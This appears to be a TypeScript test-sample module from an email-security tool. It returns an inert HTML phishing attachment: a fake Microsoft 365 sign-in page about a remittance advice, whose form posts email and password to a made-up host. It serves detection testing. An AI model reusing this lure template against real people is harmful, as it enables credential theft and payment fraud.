/**
 * @module samples/tools/mail/lure-page
 * The HTML attachment of the remittance-advice phishing .eml: a fake Microsoft 365 sign-in form
 * that posts to a made-up host on free hosting. Inert: no scripts, no external resources.
 */

/** "Remittance_0417.html": a sign-in form, a help link, nothing that loads or runs. */
export function remittanceLurePage(): Buffer {
  return Buffer.from(
    `<!DOCTYPE html>
<html lang="en">
<head><meta charset="utf-8"><title>Remittance advice 0417</title></head>
<body style="font-family: Segoe UI, sans-serif">
<h2>Microsoft 365</h2>
<p>A remittance advice of EUR 18,400.00 has been shared with you. The document is protected:
sign in with your email password to view it.</p>
<form method="post" action="https://remit-viewer-0417.pages.dev/auth.php">
<input type="email" name="login" placeholder="Email">
<input type="password" name="passwd" placeholder="Password">
<button type="submit">Sign in</button>
</form>
<p><a href="https://remit-viewer-0417.pages.dev/help">Can't access your account?</a></p>
</body>
</html>
`,
    'utf8',
  );
}
